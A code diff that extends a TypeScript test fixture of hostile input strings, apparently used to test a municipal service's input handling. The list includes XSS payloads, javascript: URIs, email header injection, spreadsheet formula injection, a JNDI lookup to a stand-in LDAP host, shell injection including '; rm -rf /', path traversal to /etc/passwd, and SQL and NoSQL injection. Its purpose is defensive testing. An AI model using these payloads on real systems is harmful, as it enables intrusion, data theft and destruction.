@@ -1,6 +1,6 @@
-// Strings that have broken other services: markup, quotes, addresses that run, turned writing direction, sheer length.
+// Strings that have broken other services: markup, line breaks, addresses that run, turned writing direction, sheer length.
 
-export const HOSTILE: readonly string[] = [
+const MARKUP_AND_MORE = [
   '<script>alert(1)</script>',
   '</script><script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
@@ -52,4 +52,179 @@ export const HOSTILE: readonly string[] = [
   '=HYPERLINK("http://evil.example","klicka")',
   'å'.repeat(10_000),
   `<b>${'x'.repeat(9_000)}`,
+];
+
+/** What may end a line, somewhere. */
+const BREAKS = [
+  '\r\n',
+  '\n',
+  '\r',
+  '\r\n\r\n',
+  '\u2028',
+  '\u2029',
+  '\u0085',
+  '\u0000',
+  '\u000b',
+  '\u000c',
+  '\r\n ',
+  '\n\t',
+];
+/** What would then begin: a header, another part, another command. */
+const TAILS = [
+  'Bcc: q@q.example',
+  'Subject: annat',
+  'Content-Type: text/html',
+  'List-Unsubscribe: <https://q.example/>',
+  '\r\n<script>alert(1)</script>',
+  '.\r\nMAIL FROM:<q@q.example>',
+];
+const broken = BREAKS.flatMap((line) => TAILS.map((tail) => `Utlysning${line}${tail}`));
+
+const HANDLERS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerenter',
+];
+const TAGS = ['img src=x', 'svg', 'video', 'details open', 'marquee'];
+const handled = HANDLERS.map((handler, i) => `<${TAGS[i % TAGS.length]} ${handler}=alert(${i})>`);
+
+const running = [
+  'JAVASCRIPT:alert(1)',
+  'java\tscript:alert(1)',
+  'java\rscript:alert(1)',
+  'java\u0000script:alert(1)',
+  'javascript\n:alert(1)',
+  '\u00a0javascript:alert(1)',
+  '\u200bjavascript:alert(1)',
+  'javascript&colon;alert(1)',
+  '&#106;avascript:alert(1)',
+  'jav&#x0A;ascript:alert(1)',
+  'javascript://kommun.example/%0Aalert(1)',
+  'feed:javascript:alert(1)',
+  'view-source:javascript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'blob:https://kommun.example/1',
+  'file:///etc/passwd',
+  '//q.example/väg',
+  '\\\\q.example\\del',
+];
+
+/** Signs that turn the writing direction, and signs that nobody sees. */
+const UNSEEN = [
+  ...['\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068'],
+  ...[
+    '\u00ad',
+    '\u034f',
+    '\u115f',
+    '\u17b4',
+    '\u180e',
+    '\u200b',
+    '\u200c',
+    '\u2060',
+    '\u2064',
+    '\u3164',
+    '\ufeff',
+    '\ufff9',
+  ],
+  ...['\u{e0041}', '\ufe0f', '\u{1d173}'],
+];
+const unseen = UNSEEN.map((sign) => `Utlysning${sign}fdp.exe${sign}`);
+
+const encoded = [
+  '=?utf-8?Q?=0D=0ABcc:_q@q.example?=',
+  '=?utf-8?B?DQpCY2M6IHFAcS5leGFtcGxl?=',
+  '=?iso-8859-1?Q?=3Cq@q.example=3E?=',
+  "utf-8''%0D%0ABcc:%20q@q.example",
+  '%0d%0aBcc:%20q@q.example',
+  '\\r\\nBcc: q@q.example',
+  '&#13;&#10;Bcc: q@q.example',
+];
+
+const addressed = [
+  '"q" <q@q.example>, r@r.example',
+  'Anna <q@q.example>',
+  '<q@q.example>',
+  'grupp: q@q.example, r@r.example;',
+  'q@q.example (Anna)',
+  '"q@q.example" <anna@kommun.example>',
+  'anna@kommun.example>,<q@q.example',
+  'anna@kommun.example\\, q@q.example',
+  '";q@q.example;"',
+];
+
+const computed = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|'/C calc'!A0",
+  '\uff1d1+1',
+  '{{7*7}}',
+  '\u0024{7*7}',
+  '<%= 7*7 %>',
+  '{% debug %}',
+  '[[\u0024{7*7}]]',
+  '\u0024{jndi:ldap://q.example/a}',
+  '$(id)',
+  '`id`',
+  '; rm -rf /',
+  '../../../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  "' OR '1'='1",
+  '"; ATTACH DATABASE x; --',
+  'title:"a" OR NEAR(b c)',
+  '{"$ne":null}',
+  '__proto__',
+  'constructor',
+  '%s%n%x',
+  'NaN',
+  'null',
+];
+
+const written = [
+  '\u0627\u0644\u062f\u0639\u0645 \u0644\u0644\u0634\u0628\u0627\u0628 2026',
+  '\u05ea\u05de\u05d9\u05db\u05d4 \u05d1\u05e0\u05d5\u05e2\u05e8 (2026)',
+  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} familj',
+  '\u{1f1f8}\u{1f1ea}\u{1f1ea}\u{1f1fa} flaggor',
+  '\u{1f44d}\u{1f3fd} och 1\ufe0f\u20e3',
+  '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
+  '\u{1f600}'.repeat(300),
+  `a${'\u0301'.repeat(500)}`,
+  '\ud800 ensam i början',
+  'ensam i slutet \udbff',
+  '\udc00\ud800 i fel ordning',
+  '\ufffe\uffff inga tecken',
+  '\ufdfd\u{12031} breda',
+  '\u0001\u0002\u001b[31mrött\u001b[0m\u007f',
+];
+
+const long = [
+  ' ',
+  '\u00a0\u3000',
+  'x'.repeat(10_000),
+  `${'å'.repeat(990)}\r\nBcc: q@q.example`,
+  'ord '.repeat(2_500),
+  `${'&amp;'.repeat(2_000)}`,
+  `kommun.example/${'a'.repeat(3_000)}`,
+];
+
+/** At least 200, each another. None is an address that may be followed: those are tried for themselves. */
+export const HOSTILE: readonly string[] = [
+  ...MARKUP_AND_MORE,
+  ...broken,
+  ...handled,
+  ...running,
+  ...unseen,
+  ...encoded,
+  ...addressed,
+  ...computed,
+  ...written,
+  ...long,
 ];
